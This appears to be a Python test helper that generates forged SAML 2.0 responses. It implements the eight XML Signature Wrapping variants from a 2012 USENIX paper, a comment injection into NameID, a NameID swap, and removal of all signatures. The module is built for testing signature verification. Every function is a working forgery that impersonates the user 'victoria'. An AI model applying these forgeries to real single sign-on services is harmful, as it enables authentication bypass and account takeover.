"""Signed responses of SAML 2.0 rearranged, so that what is signed is not what is read.

After “On Breaking SAML: Be Whoever You Want to Be” (USENIX Security 2012), whose eight kinds these
are, and the comment in a name of 2018.
"""

import base64
import copy
from collections.abc import Callable

from lxml import etree

SAMLP = "{urn:oasis:names:tc:SAML:2.0:protocol}"
SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
DS = "{http://www.w3.org/2000/09/xmldsig#}"
VICTIM = "victoria"


def changed(response: str, change: Callable[[etree._Element], etree._Element]) -> str:
    """Give a response with a change made to its XML."""
    root = etree.fromstring(base64.b64decode(response))
    return base64.b64encode(etree.tostring(change(root))).decode()


def assertion_of(root: etree._Element) -> etree._Element:
    """The assertion of a response that nobody has changed yet."""
    (found,) = root.findall(f"{SAML}Assertion")
    return found


def signature_of(signed: etree._Element) -> etree._Element:
    """The signature that an element holds."""
    (found,) = signed.findall(f"{DS}Signature")
    return found


def evil(assertion: etree._Element, *, signed: bool) -> etree._Element:
    """A copy of the assertion that names the victim, with another id."""
    made = copy.deepcopy(assertion)
    made.set("ID", "_evil")
    made.find(f"{SAML}Subject/{SAML}NameID").text = VICTIM
    if not signed:
        made.remove(signature_of(made))
    return made


def _evil_response(root: etree._Element) -> etree._Element:
    made = copy.deepcopy(root)
    made.set("ID", "_evil-response")
    for signature in made.findall(f"{DS}Signature"):
        made.remove(signature)
    made.replace(assertion_of(made), evil(assertion_of(made), signed=False))
    return made


def response_inside_its_signature(root: etree._Element) -> etree._Element:
    """XSW1: the signed response inside the signature of an evil one."""
    made, inner = _evil_response(root), copy.deepcopy(root)
    signature = signature_of(inner)
    inner.remove(signature)
    etree.SubElement(signature, f"{DS}Object").append(inner)
    made.insert(1, signature)
    return made


def response_beside_its_signature(root: etree._Element) -> etree._Element:
    """XSW2: the signed response beside its signature in an evil one."""
    made, inner = _evil_response(root), copy.deepcopy(root)
    signature = signature_of(inner)
    inner.remove(signature)
    made.insert(1, inner)
    made.insert(2, signature)
    return made


def evil_before(root: etree._Element) -> etree._Element:
    """XSW3: an evil assertion before the signed one."""
    signed = assertion_of(root)
    signed.addprevious(evil(signed, signed=False))
    return root


def evil_around(root: etree._Element) -> etree._Element:
    """XSW4: an evil assertion around the signed one."""
    signed = assertion_of(root)
    made = evil(signed, signed=False)
    root.replace(signed, made)
    made.append(signed)
    return root


def signature_moved(root: etree._Element) -> etree._Element:
    """XSW5: the evil assertion has the signature, the signed one comes after it."""
    signed = assertion_of(root)
    made = evil(signed, signed=True)
    plain = copy.deepcopy(signed)
    plain.remove(signature_of(plain))
    root.replace(signed, made)
    root.append(plain)
    return root


def signed_inside_the_signature(root: etree._Element) -> etree._Element:
    """XSW6: the signed assertion inside the signature of the evil one."""
    made = signature_moved(root)
    evil_one, plain = made.findall(f"{SAML}Assertion")
    etree.SubElement(signature_of(evil_one), f"{DS}Object").append(plain)
    return made


def evil_in_extensions(root: etree._Element) -> etree._Element:
    """XSW7: the evil assertion in extensions that no schema looks into."""
    extensions = etree.Element(f"{SAMLP}Extensions")
    extensions.append(evil(assertion_of(root), signed=False))
    root.insert(1, extensions)
    return root


def signed_in_an_object(root: etree._Element) -> etree._Element:
    """XSW8: the signed assertion in an object of the signature, the same id twice."""
    signed = assertion_of(root)
    made = evil(signed, signed=True)
    made.set("ID", signed.get("ID"))
    plain = copy.deepcopy(signed)
    plain.remove(signature_of(plain))
    etree.SubElement(signature_of(made), f"{DS}Object").append(plain)
    root.replace(signed, made)
    return root


def name_changed(root: etree._Element) -> etree._Element:
    """Another name in the signed assertion."""
    assertion_of(root).find(f"{SAML}Subject/{SAML}NameID").text = VICTIM
    return root


def comment_in_the_name(root: etree._Element) -> etree._Element:
    """A comment inside the name: the signature does not see it."""
    name = assertion_of(root).find(f"{SAML}Subject/{SAML}NameID")
    whole = name.text
    name.text = whole[:3]
    comment = etree.Comment("x")
    comment.tail = whole[3:]
    name.append(comment)
    return root


def unsigned(root: etree._Element) -> etree._Element:
    """No signature at all."""
    for signature in list(root.iter(f"{DS}Signature")):
        signature.getparent().remove(signature)
    return root


WRAPPINGS = (
    response_inside_its_signature,
    response_beside_its_signature,
    evil_before,
    evil_around,
    signature_moved,
    signed_inside_the_signature,
    evil_in_extensions,
    signed_in_an_object,
)
